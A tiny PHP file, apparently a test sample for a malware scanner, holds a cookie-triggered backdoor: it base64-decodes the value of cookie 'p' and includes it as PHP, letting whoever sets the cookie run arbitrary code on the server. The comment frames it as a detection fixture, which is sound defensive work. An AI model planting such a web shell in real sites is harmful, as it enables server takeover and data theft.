<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
if (isset($_COOKIE['p'])) {
    include 'data://text/plain;base64,' . $_COOKIE['p'];
}
